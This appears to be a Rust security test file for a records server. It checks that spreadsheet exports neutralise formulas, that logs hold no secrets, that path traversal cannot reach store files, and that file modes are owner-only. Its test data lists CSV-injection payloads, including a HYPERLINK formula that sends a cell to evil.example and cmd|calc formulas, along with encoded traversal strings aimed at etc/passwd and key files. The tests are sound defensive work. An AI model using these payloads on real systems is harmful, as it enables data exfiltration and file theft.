//! What leaves by the side: formulas in tables, log lines, files on disk.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use banyan::config::Config;
use banyan::keep;
use banyan::platform::Platform;
use banyan_base::World;
use banyan_store::{Db, Options};
use serde_json::json;

use super::stand::{SECRETS, Stand};
use crate::sign_in::log;

/// Texts that a spreadsheet would run.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0\",\"b",
];

pub fn formulas(stand: &Stand) {
    for text in FORMULAS {
        let made = stand.send(
            "clerk",
            "POST",
            "/v1/records/people/counter",
            Some(&json!({ "fields": { "name": text } })),
        );
        stand.expect(made.status == 201, || format!("{text}: {made:?}"));
    }
    let all = "/v1/records/people/counter";
    let table = stand.get("clerk", &format!("{all}/export?format=csv"));
    let rows: Vec<String> = csv_cells(&table.text());
    for text in FORMULAS {
        stand.expect(rows.contains(&format!("'{text}")), || {
            format!("{text} is not made text in {rows:?}")
        });
    }
    let live = rows
        .iter()
        .find(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r']));
    stand.expect(live.is_none(), || format!("a spreadsheet would run {live:?}"));
    // In a workbook they are texts, and no cell is a formula.
    let book = stand.get("clerk", &format!("{all}/export?format=xlsx"));
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(book.body)).unwrap();
    let mut sheet = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(), &mut sheet).unwrap();
    stand.expect(!sheet.contains("<f>") && !sheet.contains("<f "), || sheet.clone());
    // What was sent comes back by the API, and by an import of the export.
    let names: Vec<String> = stand.get("clerk", &format!("{all}?limit=100")).json()["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|item| item["fields"]["name"].as_str().unwrap().to_owned())
        .collect();
    stand.expect(
        FORMULAS.iter().all(|text| names.iter().any(|name| name == text)),
        || format!("{names:?}"),
    );
    let sheet = format!(
        "name\n{}\n",
        FORMULAS
            .iter()
            .map(|text| format!("\"'{}\"", text.replace('"', "\"\"")))
            .collect::<Vec<_>>()
            .join("\n")
    );
    let run = stand
        .call(
            "clerk",
            "POST",
            &format!("{all}/imports"),
            &[],
            Some(("text/csv", sheet.as_bytes())),
        )
        .json();
    let mut twice = 0;
    for _ in 0..200 {
        let page = stand.get("clerk", &format!("{all}?limit=100")).json();
        let names = page["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|item| item["fields"]["name"].clone());
        twice = names.filter(|name| *name == FORMULAS[3]).count();
        if twice == 2 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    stand.expect(twice == 2, || {
        format!("an export comes back as it was: {twice}, {run}")
    });
}

fn csv_cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(one) = chars.next() {
        match one {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            other => cell.push(other),
        }
    }
    cells
}

/// Log lines of good and bad requests hold no value of a person, and no body.
pub fn logs(stand: &Stand) {
    let log = log();
    let encode = |text: &str| {
        text.bytes()
            .map(|byte| format!("%{byte:02X}"))
            .collect::<String>()
    };
    let all = "/v1/records/people/person";
    for secret in SECRETS {
        let text = encode(secret);
        for path in [
            format!("{all}?q={text}"),
            format!("{all}?filter={}", encode(&format!("name = '{secret}'"))),
            format!("{all}?filter={text}"),
            format!("{all}?cursor={text}"),
            format!("{all}/{text}"),
            format!("{all}/export?format={text}"),
            format!("/ogc/collections/people.person/items?name={text}"),
            format!("/ogc/collections/{text}/items"),
            format!("/v1/accounts?q={text}"),
            format!("/{text}"),
        ] {
            for who in ["clerk", "reader", ""] {
                stand.get(who, &path);
            }
        }
        for body in [
            json!({ "fields": { "name": secret, "number": secret } }),
            json!({ "fields": { secret: 1 } }),
            json!(secret),
        ] {
            stand.send("clerk", "POST", all, Some(&body));
        }
        stand.call(
            "clerk",
            "POST",
            all,
            &[],
            Some(("application/json", format!("{{{secret}").as_bytes())),
        );
        let sheet = format!("name,number,{secret}\n{secret},{secret},1\n");
        stand.call(
            "clerk",
            "POST",
            &format!("{all}/imports"),
            &[],
            Some(("text/csv", sheet.as_bytes())),
        );
        stand.send(
            "",
            "POST",
            "/v1/session",
            Some(&json!({ "login": secret, "password": secret })),
        );
    }
    std::thread::sleep(std::time::Duration::from_millis(500));
    let written = String::from_utf8_lossy(&log.lock().unwrap()).into_owned();
    stand.expect(written.contains("record.list"), || "nothing was logged".into());
    for secret in SECRETS {
        for form in [secret.to_owned(), encode(secret), encode(secret).to_lowercase()] {
            let line = written.lines().find(|line| line.contains(&form));
            stand.expect(line.is_none(), || format!("logged: {line:?}"));
        }
    }
}

/// No file of the store is served by any trick with addresses.
pub fn paths(stand: &Stand) {
    let folder = stand.bed.test.folder.display().to_string();
    let ups = [
        "..",
        "%2e%2e",
        "..%2f..",
        "%2e%2e%2f%2e%2e",
        "..%5c..",
        "....//",
        "%252e%252e",
        ".%00.",
    ];
    let wanted = [
        "banyan.db",
        "banyan.db-wal",
        "test.db",
        "initial-password",
        "keys/sign-in.key",
        "audit/signing-key",
        "audit/subject-key",
        "audit/salts.db",
        "banyan.toml",
        "etc/passwd",
        "Cargo.toml",
    ];
    let fronts = [
        "/",
        "/desk/",
        "/desk/assets/",
        "/v1/files/",
        "/audit/tile/",
        "/audit/entries/",
        "/audit/",
        "/ogc/collections/",
        "/data-dir/",
        "/backup/",
        "/blobs/",
    ];
    for front in fronts {
        for file in wanted {
            let mut tried = vec![
                format!("{front}{file}"),
                format!("{front}{}", file.replace('/', "%2f")),
                format!("{front}{folder}/{file}"),
            ];
            for up in ups {
                for depth in [1, 4, 9] {
                    let climb = format!("{up}/").repeat(depth);
                    tried.push(format!("{front}{climb}{file}"));
                }
            }
            for path in tried {
                // As bytes: clients like to tidy addresses up.
                let ask = crate::hostile::wire::Ask::new("GET", &path).bearer(stand.token("boss"));
                let answer = crate::hostile::wire::ask(stand.address, &ask.bytes());
                let text = String::from_utf8_lossy(&answer.body);
                let found = ["SQLite format 3", "root:x:", "[workspace]", "PRIVATE", "[server]"]
                    .iter()
                    .any(|mark| text.contains(mark));
                stand.expect(!found, || format!("{path} gives a file: {answer:?}"));
                let page = answer.status == 200 && front.starts_with("/desk") && text.contains("<html");
                stand.expect(page || answer.status != 200, || format!("{path}: {answer:?}"));
            }
        }
    }
    let stored: Vec<String> = [&stand.ids.file[..2], &stand.ids.file].map(str::to_owned).into();
    for path in [
        format!("/blobs/{}/{}", stored[0], &stored[1][2..]),
        format!("/desk/../blobs/{}/{}", stored[0], &stored[1][2..]),
    ] {
        for who in ["", "boss"] {
            let answer = stand.get(who, &path);
            stand.tells_nothing(&path, &answer);
        }
    }
}

/// Files of a server, its log and its backups can be read by their owner alone.
pub fn modes() {
    keep::private();
    let folder = std::env::temp_dir().join(format!("banyan-modes-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&folder);
    let mut config = Config::default();
    config.store.folder = folder.clone();
    std::fs::create_dir_all(&folder).unwrap();
    let url = format!("sqlite:{}", folder.join("banyan.db").display());
    let db = Db::open(&url, &Options::default()).unwrap();
    let platform = Platform::over(db, World::system(), false, &folder).unwrap();
    let file = crate::support::document(
        platform
            .door
            .call(
                &platform.world.system_ctx(),
                "file.create",
                banyan_door::Input {
                    body: banyan_door::Body::Upload(banyan_door::Upload::memory(
                        "text/plain",
                        Some("a.txt".into()),
                        b"x".to_vec(),
                    )),
                    ..banyan_door::Input::default()
                },
            )
            .unwrap(),
    );
    assert!(file["hash"].is_string());
    keep::backup(&platform.db, &config, &folder.join("copy")).unwrap();
    let mut seen = 0;
    let mut open = Vec::new();
    look(&folder, &mut |path, mode| {
        seen += 1;
        if mode & 0o077 != 0 {
            open.push(format!("{} {:o}", path.display(), mode & 0o777));
        }
    });
    assert!(open.is_empty() && seen > 10, "{seen} looked at, open: {open:#?}");
    std::fs::remove_dir_all(&folder).unwrap();
}

fn look(path: &Path, found: &mut dyn FnMut(&Path, u32)) {
    let about = std::fs::symlink_metadata(path).unwrap();
    found(path, about.permissions().mode());
    if about.is_dir() {
        for entry in std::fs::read_dir(path).unwrap() {
            look(&entry.unwrap().path(), found);
        }
    }
}
